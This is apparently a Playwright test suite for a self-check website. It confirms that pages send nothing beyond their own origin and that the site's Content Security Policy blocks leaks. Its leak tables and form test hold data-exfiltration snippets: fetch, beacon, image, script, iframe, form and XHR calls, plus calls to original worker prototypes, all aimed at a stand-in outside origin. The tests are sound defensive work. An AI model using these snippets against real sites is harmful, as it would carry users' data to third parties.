"""Nothing leaves the origin, neither by itself nor when somebody tries, from the page and from the worker."""

import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page

import worked
from check_page import CheckPage, control_values, eventually
from desk_page import WITHIN_REACH
from quick_page import QuickPage
from roster_page import RosterPage
from share_page import draft_text, fragment, question_of, share
from site_server import Handler, OtherOrigin, SiteServer

CONTENT = [address for address in worked.ADDRESSES if not address.endswith(("/check/", "/quick/", "/visit/"))]

# What any page asks for at a time of its own, whatever the visitor does: the newest version, once a day, what keeps the
# site for when there is no network, and the WebAssembly for the next visit.
BY_ITSELF = re.compile(r"/(version\.json|later\.\w+\.js|service-worker\.js|pyodide\.asm\.wasm)$")

# Tells the test of each thing that the policy forbids.
WATCH = (
    "addEventListener('securitypolicyviolation', (event) => (self.violations ??= []).push(event.violatedDirective));"
)

PAGE_LEAKS = {
    "fetch": "(url) => void fetch(url + 'fetch', { method: 'POST', body: 'answers' }).catch(() => {})",
    "image": "(url) => void (new Image().src = url + 'image')",
    "beacon": "(url) => void navigator.sendBeacon(url + 'beacon', 'answers')",
    "script": "(url) => document.head.append(Object.assign(document.createElement('script'), { src: url + 'script' }))",
    "style": """(url) => document.head.append(
        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url + 'style' }))""",
    "frame": "(url) => document.body.append(Object.assign(document.createElement('iframe'), { src: url + 'frame' }))",
}

# The checker replaces the worker's own functions once it is loaded; whoever wants to leak takes the originals.
WORKER_LEAKS = {
    "fetch": "(url) => WorkerGlobalScope.prototype.fetch.call(self, url + 'fetch').catch(() => {})",
    "importScripts": """(url) => {
        try { WorkerGlobalScope.prototype.importScripts.call(self, url + 'importScripts'); } catch {}
    }""",
    "XMLHttpRequest": """(url) => {
        const request = new XMLHttpRequest();
        request.open('GET', url + 'XMLHttpRequest', false);
        try { request.send(); } catch {}
    }""",
    "python": """(url) => python.runPython(`
import js
request = js.XMLHttpRequest.new()
request.open("GET", "${url}python", False)
try:
    request.send()
except Exception:
    pass`)""",
}

IS_ACTIVE = "Boolean((await navigator.serviceWorker.getRegistration())?.active)"


@pytest.fixture
def visitor(
    browser: Browser, browser_context_args: dict[str, Any], other_origin: OtherOrigin
) -> Iterator[BrowserContext]:
    """Return a browser whose requests to anywhere but this machine all arrive at the other origin, as its proxy."""
    proxy = {"server": other_origin.origin, "bypass": "127.0.0.1"}
    with browser.new_context(**browser_context_args, proxy=proxy) as context:
        context.add_init_script(WATCH)
        yield context


@pytest.fixture(params=[True, False], ids=["with policy", "without policy"])
def protected(request: pytest.FixtureRequest, site: SiteServer) -> bool:
    """Return whether the site sends its policy; a test runs once with it and once without."""
    with_policy: bool = request.param
    site.without_policy = not with_policy
    return with_policy


def watched_console(context: BrowserContext) -> list[str]:
    """Return a list that fills up with errors and warnings of all pages, but for what the tests' own browser says."""
    messages: list[str] = []

    def hear(message: ConsoleMessage) -> None:
        if message.type != "log" and "blocked by Playwright" not in message.text:
            messages.append(message.text)

    context.on("console", hear)
    context.on("weberror", lambda error: messages.append(str(error.error)))
    return messages


def violations(page: Page) -> list[str]:
    """Return what the policy has forbidden on a page."""
    return list(page.evaluate("() => self.violations ?? []"))


def file_names(paths: list[str]) -> set[str]:
    """Return the names of the files that were asked for, but for those that come by themselves."""
    return {path.rpartition("/")[2] for path in paths if not BY_ITSELF.search(path)}


def test_content_pages(visitor: BrowserContext, site: SiteServer, other_origin: OtherOrigin) -> None:
    """Pages to read ask their own origin only, for no Python, set no cookies, and keep to the policy."""
    messages = watched_console(visitor)
    page = visitor.new_page()
    asked: list[str] = []
    visitor.on("request", lambda request: asked.append(request.url))

    for address in CONTENT:
        page.goto(site.url(address), wait_until="networkidle")
        assert violations(page) == []

    assert [url for url in asked if not url.startswith(site.url())] == []
    assert [path for path in site.requests if "/assets/runtime/" in path] == []
    assert other_origin.requests == []
    assert messages == []
    assert visitor.cookies() == []


@pytest.mark.parametrize("notice", worked.KNOWN)
def test_check_page(visitor: BrowserContext, site: SiteServer, other_origin: OtherOrigin, notice: str) -> None:
    """A whole application is filled in, saved and opened again, and nobody else hears of it."""
    messages = watched_console(visitor)
    asked: list[str] = []
    visitor.on("request", lambda request: asked.append(request.url))
    check = CheckPage(visitor.new_page(), site.url(f"{notice}/check/"), notice)

    check.open()
    check.wait_for_state("ready")
    eventually(check.page, lambda: "sheets.bin" in file_names(site.requests), expected=True)
    start = len(site.requests)
    check.open_file(worked.as_text(worked.nested(worked.ample(notice))))
    check.control("name").fill("某单位")
    eventually(check.page, lambda: check.results()["overall"], "met")
    check.open_file(check.save(), name="again.json")
    check.page.get_by_role("button", name="清空").click()

    roster = RosterPage(check, next(iter(worked.notice(notice).rosters)))
    roster.section.get_by_role("button", name="添加一行").click()
    roster.row_dialog.locator('input[type="text"]').first.fill("某企业")
    roster.row_dialog.get_by_role("button", name="保存").click()
    with check.page.expect_download() as download:
        roster.section.get_by_role("button", name="导出 xlsx").click()
    roster.import_file(download.value.path())
    roster.confirm_import()

    assert [url for url in asked if not url.startswith((site.url(), f"blob:{site.origin}/"))] == []
    assert other_origin.requests == []
    # Not even the site's own server hears anything once the checker is there, but that a workbook is written.
    assert file_names(site.requests[start:]) == {"openpyxl.bin"}
    assert violations(check.page) == []
    assert messages == []
    assert visitor.cookies() == []


def test_shared_link(visitor: BrowserContext, site: SiteServer, other_origin: OtherOrigin) -> None:
    """What a link carries is in no request and in no referrer, also not of the page that comes after it."""
    messages = watched_console(visitor)
    sent: list[str] = []
    visitor.on("request", lambda request: sent.append(f"{request.url} {request.all_headers()} {request.post_data}"))
    carried = fragment(draft_text(worked.INCUBATOR, {"name": "某单位"}))
    page = visitor.new_page()

    page.goto(site.url(f"{worked.INCUBATOR}/check/") + carried)
    question_of(page).get_by_role("button", name="打开", exact=True).click()
    share(CheckPage(page, site.url(), worked.INCUBATOR))
    page.goto(site.url(f"{worked.INCUBATOR}/check/") + carried)  # the answer is left open
    page.get_by_role("link", name="快速自查").first.evaluate("(link) => link.click()")
    page.wait_for_url("**/quick/")

    assert [what for what in sent if carried[4:24] in what or "#d1" in what or "%23d1" in what] == []
    assert [path for path in site.requests if carried[4:24] in path or "#d1" in path or "%23d1" in path] == []
    assert len(sent) > 10
    assert other_origin.requests == []
    assert violations(page) == []
    assert messages == []


@pytest.mark.parametrize("notice", worked.CASES)
def test_quick_check(visitor: BrowserContext, site: SiteServer, other_origin: OtherOrigin, notice: str) -> None:
    """Its questions are answered to the end, and nobody hears of it."""
    messages = watched_console(visitor)
    asked: list[str] = []
    visitor.on("request", lambda request: asked.append(request.url))
    quick = QuickPage(visitor.new_page(), site.url(f"{notice}/quick/"))

    quick.open()
    eventually(quick.page, lambda: "sheets.bin" in file_names(site.requests), expected=True)
    start = len(site.requests)
    quick.answer_all(control_values(notice, worked.nested(worked.ample(notice))))

    assert [url for url in asked if not url.startswith((site.url(), f"blob:{site.origin}/"))] == []
    assert other_origin.requests == []
    assert file_names(site.requests[start:]) == set()
    assert violations(quick.page) == []
    assert messages == []
    assert visitor.cookies() == []


# ---- deliberate leaks


@pytest.mark.parametrize("way", PAGE_LEAKS)
def test_leak_from_the_page(
    browser: Browser,
    site: SiteServer,
    other_origin: OtherOrigin,
    way: str,
    protected: bool,  # noqa: FBT001
) -> None:
    """The policy stops a page that wants to send answers elsewhere; without it, they arrive."""
    with browser.new_context() as context:
        context.add_init_script(WATCH)
        page = context.new_page()
        page.goto(site.url("2024-incubator/contacts/"))

        page.evaluate(PAGE_LEAKS[way], f"{other_origin.origin}/")

        if protected:
            eventually(page, lambda: len(violations(page)), 1)
            assert other_origin.requests == []
        else:
            eventually(page, lambda: any(way in request for request in other_origin.requests), expected=True)


def test_leak_through_the_service_worker(
    browser: Browser, browser_context_args: dict[str, Any], site: SiteServer, other_origin: OtherOrigin
) -> None:
    """What keeps the site for later is no way out: the page's policy comes before it."""
    with browser.new_context(**{**browser_context_args, "service_workers": "allow"}) as context:
        context.add_init_script(WATCH)
        page = context.new_page()
        page.goto(site.url("2024-incubator/contacts/"))
        eventually(page, lambda: len(context.service_workers), 1)
        eventually(page, lambda: page.evaluate(f"async () => ({IS_ACTIVE})"), expected=True, seconds=40)
        page.reload()

        for leak in PAGE_LEAKS.values():
            page.evaluate(leak, f"{other_origin.origin}/")

        eventually(page, lambda: len(violations(page)), len(PAGE_LEAKS))
        assert other_origin.requests == []


def test_form_goes_nowhere(new_page: Page, site: SiteServer, other_origin: OtherOrigin) -> None:
    """No form can be sent, not even by a script."""
    new_page.add_init_script(WATCH)
    new_page.goto(site.url("2024-incubator/contacts/"))

    new_page.evaluate(
        """(url) => {
            const form = document.createElement("form");
            Object.assign(form, { action: url, method: "post" });
            document.body.append(form);
            form.submit();
        }""",
        f"{other_origin.origin}/",
    )

    eventually(new_page, lambda: violations(new_page), ["form-action"])
    assert other_origin.requests == []


def within_reach(handler: Handler, contents: bytes) -> None:
    """Let the test reach the Python that the worker has started."""
    handler.answer(contents + b"\n" + WITHIN_REACH, "text/javascript")


def test_leaks_from_the_worker(
    browser: Browser,
    site: SiteServer,
    other_origin: OtherOrigin,
    protected: bool,  # noqa: FBT001
) -> None:
    """The policy reaches the worker and its Python; without it, they could talk to anybody."""
    site.faults["pyodide.asm.js"] = within_reach
    with browser.new_context() as context:
        check = CheckPage(context.new_page(), site.url("2024-incubator/check/"), "2024-incubator")
        check.open()
        check.wait_for_state("ready")
        (worker,) = check.page.workers
        worker.evaluate(f"() => {{ {WATCH} }}")

        for leak in WORKER_LEAKS.values():
            worker.evaluate(leak, f"{other_origin.origin}/")

        if protected:
            eventually(check.page, lambda: worker.evaluate("() => self.violations?.length"), len(WORKER_LEAKS))
        expected = set() if protected else set(WORKER_LEAKS)
        eventually(check.page, lambda: {way.rpartition("/")[2] for way in other_origin.requests}, expected)


def test_the_checker_itself_locks_the_worker(browser: Browser, site: SiteServer, other_origin: OtherOrigin) -> None:
    """Even without a policy, what Python ordinarily uses to load things is out of order once it has started."""
    site.without_policy = True
    site.faults["pyodide.asm.js"] = within_reach
    with browser.new_context() as context:
        check = CheckPage(context.new_page(), site.url("2024-incubator/check/"), "2024-incubator")
        check.open()
        check.wait_for_state("ready")
        (worker,) = check.page.workers

        error = worker.evaluate(
            """(url) => python.runPythonAsync(`
import js
try:
    await js.fetch("${url}")
    outcome = "went out"
except Exception as error:
    outcome = str(error)
outcome`)""",
            other_origin.origin,
        )

        assert "not to be loaded" in error
        assert other_origin.requests == []
